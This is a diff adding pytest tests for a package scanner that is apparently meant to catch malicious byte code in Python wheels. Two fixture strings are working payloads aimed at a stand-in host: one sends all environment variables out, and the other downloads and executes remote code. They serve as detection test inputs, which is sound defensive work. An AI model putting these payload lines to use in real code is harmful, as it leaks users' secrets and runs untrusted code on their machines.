@@ -1,0 +1,55 @@
+"""Byte code is read where Python would run it, and only there."""
+
+from __future__ import annotations
+
+import importlib.util
+import marshal
+
+import pytest
+
+from pratique.screen import screen_bytes
+from pratique.verdict import Report, Verdict
+from tests.support.distributions import make_wheel_of
+
+_SENDS = "import os, urllib.request as u\nu.urlopen('http://192.0.2.1/', data=str(dict(os.environ)).encode())\n"
+_FETCHES = "import urllib.request as u\nexec(u.urlopen('http://192.0.2.1/a').read())\n"
+
+
+def _pyc(source: str, flags: int = 0) -> bytes:
+    header = importlib.util.MAGIC_NUMBER + flags.to_bytes(4, "little") + bytes(8)
+    return header + marshal.dumps(compile(source, "x.py", "exec"))
+
+
+def _screened(files: dict[str, bytes]) -> Report:
+    return screen_bytes(make_wheel_of(files), filename="example_pkg-1.0-py3-none-any.whl")
+
+
+@pytest.mark.parametrize(("source", "rule"), [(_SENDS, "theft"), (_FETCHES, "second-stage")])
+def test_a_chain_in_a_module_without_source_is_proven(source: str, rule: str) -> None:
+    """What byte code does when it is imported is judged like source."""
+    report = _screened({"example_pkg/__init__.py": b"from . import x\n", "example_pkg/x.pyc": _pyc(source)})
+    assert report.verdict is Verdict.MALICIOUS
+    assert rule in {f.rule for f in report.findings if f.proven}
+
+
+def test_a_cache_that_is_never_checked_runs_instead_of_its_source() -> None:
+    """An unchecked cache (PEP 552) is read although its source lies beside it."""
+    tag = f"cpython-{importlib.util.MAGIC_NUMBER[0]}"
+    files = {
+        "example_pkg/__init__.py": b"",
+        "example_pkg/x.py": b"x = 1\n",
+        f"example_pkg/__pycache__/x.{tag}.pyc": _pyc(_FETCHES, 1),
+    }
+    assert _screened(files).verdict is Verdict.MALICIOUS
+
+
+def test_a_cache_that_is_checked_is_overruled_by_its_source() -> None:
+    """Stray caches of honest sources are not read a second time."""
+    files = {"example_pkg/x.py": b"x = 1\n", "example_pkg/__pycache__/x.cpython-311.pyc": _pyc(_FETCHES)}
+    assert not [f for f in _screened(files).findings if f.rule != "metadata-claims"]
+
+
+def test_damaged_byte_code_is_told() -> None:
+    """Byte code that cannot be read to its end is a finding, not a pass."""
+    files = {"example_pkg/__init__.py": b"", "example_pkg/a.py": b"", "example_pkg/x.pyc": _pyc(_FETCHES)[:60]}
+    assert any("cannot be read" in f.message for f in _screened(files).findings)
